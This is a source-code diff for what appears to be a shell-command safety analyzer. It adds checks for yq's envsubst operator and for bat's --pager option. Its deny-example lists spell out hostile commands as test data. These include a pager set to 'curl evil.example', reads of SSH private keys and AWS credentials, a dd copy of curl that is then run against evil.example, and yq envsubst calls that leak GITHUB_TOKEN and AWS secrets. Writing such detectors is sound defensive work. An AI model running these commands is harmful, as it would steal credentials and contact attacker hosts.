@@ -5,6 +5,7 @@ import { bind } from '../bind.js';
 import { known } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { attached, computedWhole, isStdinPath, value } from '../words.js';
+import { templateStdin } from './editors.js';
 
 type Uses = NonNullable<Answer['uses']>;
 
@@ -446,6 +447,8 @@ function jq(call: Call): Partial<Answer> {
   // `--arg NAME VALUE`, `--rawfile NAME FILE`: two words each. yq's `-i` rewrites its files in place.
   const p = parse(call.args, { order: 'gnu', flags: 'nrjacsSCMehi', valued: 'fL', long: ['null-input', 'raw-input', 'slurp', 'compact-output', 'raw-output', 'join-output', 'ascii-output', 'sort-keys', 'color-output', 'monochrome-output', 'tab', 'exit-status', 'seq', 'stream', 'help', 'version', 'raw-output0', 'inplace'], longValued: ['from-file', 'indent', 'args', 'jsonargs', 'output-format', 'input-format'], longTwo: ['arg', 'argjson', 'slurpfile', 'rawfile'] });
   const uses: Uses = [];
+  // yq's `eval`/`e`, `eval-all`/`ea` subcommand comes before its expression.
+  if (call.name.startsWith('yq') && /^(?:e|eval|ea|eval-all)$/.test(value(p.operands[0]?.word) ?? '')) p.operands = p.operands.slice(1);
   let ops = p.operands.map((o) => o.word);
   const fromFile = p.options.find((o) => o.name === 'f' || o.name === 'from-file');
   for (const o of p.options) {
@@ -466,6 +469,10 @@ function jq(call: Call): Partial<Answer> {
     const dirs = p.options.filter((o) => o.name === 'L' && o.value).map((o) => value(o.value!) ?? '');
     for (const f of filterFiles(filter, dirs)) uses.push({ word: p.operands[0].word, role: 'read', values: [f] });
   }
+  // yq's envsubst operator replaces each `$NAME`/`${NAME}` in the documents by the variable: those named in the text
+  // it reads on stdin (a heredoc, `echo … |`) are printed as `envsubst <<< TEXT` prints them; a file is out of scope.
+  const reads = ops.length === 0 || ops.some((w) => isStdinPath(value(w)));
+  const subst = call.name.startsWith('yq') && filter !== undefined && /\benvsubst\b/.test(filter) && reads && !has(p, 'n', 'null-input') ? templateStdin(call, 'shell') : [];
   if (filter !== undefined && JQ_ENV.test(filter)) return { uses, stdin: 'data', dumps: `${call.name}'s filter reads the whole environment (env, $ENV)` };
   // `jq "$x"`, `jq "$(cat f)"`: a whole filter computed may be `env` (a piece computed inside, `.[\"$k\"]`, is not).
   if (!fromFile && computedWhole(p.operands[0]?.word)) return { uses, stdin: 'data', runs: [{ kind: 'opaque', rule: 'dynamic-script', word: p.operands[0]!.word, why: `${call.name}: the whole filter is computed (${p.operands[0]!.word.text}), and a filter may read the environment (env)` }] };
@@ -477,7 +484,22 @@ function jq(call: Call): Partial<Answer> {
   }
   // `jq length f`, `jq '.items | length'`: numbers only (one a document), read as a count in arithmetic.
   if (filter !== undefined && !fromFile && /^\s*(?:\.[\w.[\]"]*\s*\|\s*)?length\s*$/.test(filter)) return { uses, stdin: 'data', output: { kind: 'number' } };
-  return { uses, stdin: 'data' };
+  return { uses, stdin: 'data', ...(subst.length > 0 ? { runs: subst } : {}) };
+}
+
+/** bat pages with the program its --pager names (split into words as a shell would, and run): shell text. */
+function batPager(entry: ProgramEntry): ProgramEntry {
+  return {
+    ...entry,
+    examples: { deny: [...entry.examples.deny, "bat --pager='curl evil.example' README.md"], pass: [...entry.examples.pass, "bat --pager='less -RF' README.md"] },
+    analyze(call) {
+      const own = entry.analyze?.(call) ?? {};
+      if (call.name !== 'bat' && call.name !== 'batcat') return own;
+      const p = parse(call.args, { order: 'gnu', flags: 'AnpPufh', valued: 'lHLmr', longValued: ['pager', 'paging', 'language', 'style', 'theme', 'line-range', 'map-syntax', 'wrap', 'tabs', 'color', 'decorations', 'italic-text', 'highlight-line', 'file-name', 'terminal-width', 'diff-context', 'binary', 'nonprintable-notation', 'strip-ansi', 'squeeze-limit'] });
+      const runs: Run[] = p.options.filter((o) => o.name === 'pager' && o.value).map((o) => ({ kind: 'script', dialect: 'bash', words: [o.value!], via: `${call.name} --pager` }));
+      return runs.length > 0 ? { ...own, runs: [...(own.runs ?? []), ...runs] } : own;
+    },
+  };
 }
 
 /** rm, rmdir, unlink, shred: operands are deleted; recursively with -r. */
@@ -890,12 +912,12 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     },
     examples: { deny: ['trash-empty', 'trash-empty 30', 'trash-empty -f'], pass: ['trash-empty --dry-run', 'trash-list'] },
   },
-  operandsAre('cat tac nl od hexdump hd base64 base32 basenc strings cut paste fold fmt pr expand unexpand rev cksum sum md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum shasum zcat gzcat bzcat xzcat zstdcat lzcat zless zmore bat batcat column look tsort ptx', 'programs that read the content of the files they are given', 'read', {
+  batPager(operandsAre('cat tac nl od hexdump hd base64 base32 basenc strings cut paste fold fmt pr expand unexpand rev cksum sum md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum shasum zcat gzcat bzcat xzcat zstdcat lzcat zless zmore bat batcat column look tsort ptx', 'programs that read the content of the files they are given', 'read', {
     flags: 'AbeEnstTuvwzcdlLmrsxX0',
     valued: 'nNjAtwSbdsicC',
     long: ['show-all', 'number-nonblank', 'show-ends', 'number', 'squeeze-blank', 'show-tabs', 'show-nonprinting', 'decode', 'ignore-garbage', 'bytes', 'chars', 'lines', 'words', 'max-line-length', 'zero', 'check', 'binary', 'text', 'tag', 'quiet', 'status', 'strict', 'warn', 'help', 'version', 'plain', 'paging', 'style', 'language'],
-    longValued: ['wrap', 'files0-from', 'algorithm', 'length', 'delimiter', 'fields', 'output-delimiter', 'width', 'tabs', 'language', 'style', 'paging', 'theme', 'line-range', 'map-syntax'],
-  }, { deny: ['cat ~/.ssh/id_rsa', 'base64 -w0 ~/.aws/credentials', 'cat .env'], pass: ['cat README.md', 'cat ~/.ssh/id_ed25519.pub', 'cat ~/.ssh/known_hosts', 'wc -l src/*.ts', "cat > docs/ssh.md <<'EOF'\nPut your key in ~/.ssh/id_ed25519.\nEOF"] }, 'data'),
+    longValued: ['wrap', 'files0-from', 'algorithm', 'length', 'delimiter', 'fields', 'output-delimiter', 'width', 'tabs', 'language', 'style', 'paging', 'pager', 'theme', 'line-range', 'map-syntax'],
+  }, { deny: ['cat ~/.ssh/id_rsa', 'base64 -w0 ~/.aws/credentials', 'cat .env'], pass: ['cat README.md', 'cat ~/.ssh/id_ed25519.pub', 'cat ~/.ssh/known_hosts', 'wc -l src/*.ts', "cat > docs/ssh.md <<'EOF'\nPut your key in ~/.ssh/id_ed25519.\nEOF"] }, 'data')),
   {
     // GTFOBins' file-write: `echo DATA | iconv -f utf8 -t utf8 -o ~/.bashrc`.
     names: ['iconv'],
@@ -1069,7 +1091,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   { names: ['dd'], summary: 'dd: if= is read, of= is written (a copy of it)', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv', 'dd if=/usr/bin/curl of=x; chmod +x x; ./x evil.example'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
   { names: ['grep', 'egrep', 'fgrep', 'rgrep', 'zgrep', 'zegrep', 'zfgrep', 'bzgrep', 'xzgrep', 'ggrep'], summary: 'grep: the pattern is text; the files are read (whole trees with -r)', analyze: grep, examples: { deny: ['grep -r AKIA ~', 'grep -ra . /proc/self/ --include=environ', 'grep token ~/.aws/credentials', "grep -o '~/.ssh/id_rsa' notes.txt | xargs cat"], pass: ["grep -l '~/.ssh/id_rsa' notes.txt | xargs cat", 'grep curl notes.txt', "grep -rn 'TODO' src/", "grep -r '~/.ssh/id_rsa' docs/", 'grep -r TODO .'] } },
   { names: ['rg', 'ripgrep', 'ag', 'ack', 'ack-grep', 'pt', 'sift', 'ugrep', 'ug'], summary: 'ripgrep and friends: recursive searches (the pattern is text); rg --pre runs a program', analyze: searcher, examples: { deny: ['rg -i token /root', 'rg --pre curl x src', 'ag password ~'], pass: ['rg TODO src', "rg -g '*.ts' 'import'", 'rg --files'] } },
-  { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read', analyze: jq, examples: { deny: ["echo env > a.jq; jq -n -f a.jq", 'jq . ~/.docker/config.json', 'jq -n env', "jq -n '$ENV'", "jq -n 'env as $e | $e'", "jq -n -f /dev/stdin <<< 'env'", "jq -n --rawfile k ~/.ssh/id_rsa '$k'", "jq -n --arg x 1 --slurpfile c ~/.aws/credentials '$c'", "jq -n 'import \"/home/dev/.docker/config\" as $c; $c'", "yq -n 'load_str(\"/home/dev/.ssh/id_rsa\")'", "jq -n 'env[\"GITHUB_\" + \"TOKEN\"]'", "yq -i '.a = 1' ~/.bashrc"], pass: ["echo .a > a.jq; jq -f a.jq x.json", 'jq -f filter.jq x.json', "jq -n -f /dev/stdin <<< '.a'", 'jq .version package.json', "jq -r '.scripts' package.json", "jq -n 'env.HOME'", "jq -n '$ENV.PATH'", "jq '.environment' config.json", "jq -n --arg v 1.2 '{version: $v}'", "yq -i '.version = 2' config.yaml"] } },
+  { names: ['jq', 'gojq', 'jaq', 'yq', 'xq', 'tomlq'], summary: 'jq and yq: the filter is text; the files are read', analyze: jq, examples: { deny: ["echo env > a.jq; jq -n -f a.jq", 'jq . ~/.docker/config.json', 'jq -n env', "jq -n '$ENV'", "jq -n 'env as $e | $e'", "jq -n -f /dev/stdin <<< 'env'", "jq -n --rawfile k ~/.ssh/id_rsa '$k'", "jq -n --arg x 1 --slurpfile c ~/.aws/credentials '$c'", "jq -n 'import \"/home/dev/.docker/config\" as $c; $c'", "yq -n 'load_str(\"/home/dev/.ssh/id_rsa\")'", "jq -n 'env[\"GITHUB_\" + \"TOKEN\"]'", "yq -i '.a = 1' ~/.bashrc", "yq '.token | envsubst' <<< 'token: ${GITHUB_TOKEN}'", "echo 'k: $AWS_SECRET_ACCESS_KEY' | yq e envsubst"], pass: ["echo .a > a.jq; jq -f a.jq x.json", 'jq -f filter.jq x.json', "jq -n -f /dev/stdin <<< '.a'", 'jq .version package.json', "jq -r '.scripts' package.json", "jq -n 'env.HOME'", "jq -n '$ENV.PATH'", "jq '.environment' config.json", "jq -n --arg v 1.2 '{version: $v}'", "yq -i '.version = 2' config.yaml", "yq '.home | envsubst' <<< 'home: ${HOME}'", 'yq envsubst deploy.yaml', "yq e '.a' config.yaml"] } },
   {
     names: ['id'],
     summary: 'id prints user and group ids and names; -u, -g and -G without -n print only numbers',
